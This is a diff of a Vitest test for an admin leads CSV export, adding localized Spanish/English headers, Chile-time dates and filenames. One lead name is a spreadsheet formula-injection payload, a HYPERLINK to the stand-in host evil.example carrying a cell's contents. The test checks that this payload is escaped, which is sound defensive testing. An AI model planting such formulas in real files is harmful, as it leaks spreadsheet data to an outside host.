@@ -3,7 +3,9 @@ import { readFileSync } from 'node:fs'
 import { fileURLToPath } from 'node:url'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { accessRequests, auditLog, leads, mailOutbox } from '../../db/schema.ts'
+import { chileDateTime, chileDayOf } from '../../lib/csv.ts'
 import { call, createUserAndLogin, freshIp, uniqueEmail, useTestApp } from '../../testing/app.ts'
+import { csvColumn, downloadCsv } from '../../testing/csv.ts'
 import { insertLead, parseLeadContent } from './lead-record.ts'
 import { submitLead } from './test-helpers.ts'
 
@@ -205,22 +207,26 @@ describe('GET /admin/leads/export.csv', () => {
       insert into leads (id, name, email, city, status, search, created_at)
       select id, substring(content from 'Nombre: ([^\n]*)'), email, 'Bulkville', 'new', lower(substring(content from 'Nombre: ([^\n]*)') || ' ' || email || ' bulkville'), created_at from r`)
     const evil = await submitLead(ctx.app, { name: '=HYPERLINK("http://evil.example/?"&A1,"clic")', city: 'Bulkville', phone: '+56 9 1' })
-    const res = await get('/api/v1/admin/leads/export.csv?q=bulkville')
-    expect(res.statusCode).toBe(200)
-    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
-    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/)
-    const lines = res.body
-      .replace(/^\uFEFF/, '')
-      .trimEnd()
-      .split('\n')
-    expect(lines[0]).toBe('"id","createdAt","status","statusChangedAt","name","email","phone","city","subject","content"')
-    expect(lines.filter((l) => /^"[0-9a-f-]{36}"/.test(l))).toHaveLength(1051)
-    const evilLine = lines.find((l) => l.startsWith(`"${evil.id}"`))!
-    expect(evilLine).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"`)
+    const file = await downloadCsv(ctx.app, '/api/v1/admin/leads/export.csv?q=bulkville', admin.token)
+    // Dated on Chile's clock, headers and status in the operator's language (Spanish, decision 201).
+    expect(file.filename).toBe(`solicitudes_${chileDayOf(new Date())}.csv`)
+    expect(file.header).toEqual(['Recibida', 'Estado', 'Estado desde', 'Nombre', 'Correo', 'Teléfono', 'Ciudad', 'Asunto', 'Mensaje', 'ID'])
+    expect(file.rows).toHaveLength(1051)
+    expect(new Set(csvColumn(file, 'Estado'))).toEqual(new Set(['Nueva']))
+    const evilRow = file.rows.find((r) => r.at(-1) === evil.id)!
+    expect(evilRow[3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"clic")`)
     // A phone starting with + is also a formula to a spreadsheet.
-    expect(evilLine).toContain(`"'+56 9 1"`)
+    expect(evilRow[5]).toBe(`'+56 9 1`)
+    const [stored] = await ctx.app.db.select().from(leads).where(eq(leads.id, evil.id))
+    expect(evilRow[0]).toBe(chileDateTime(stored.createdAt))
+    expect(evilRow[0]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}-0[34]:00$/)
     // The newest first, like the list.
-    expect(lines[1]).toContain(evil.id)
+    expect(file.rows[0].at(-1)).toBe(evil.id)
+    // An operator reading the console in English gets the English file.
+    const en = await downloadCsv(ctx.app, '/api/v1/admin/leads/export.csv?q=bulkville&status=new', admin.token, 'en')
+    expect(en.filename).toBe(`leads_${chileDayOf(new Date())}.csv`)
+    expect(en.header.slice(0, 3)).toEqual(['Received', 'Status', 'Status since'])
+    expect(new Set(csvColumn(en, 'Status'))).toEqual(new Set(['New']))
     const none = await get('/api/v1/admin/leads/export.csv?q=nothing-matches-this')
     expect(
       none.body
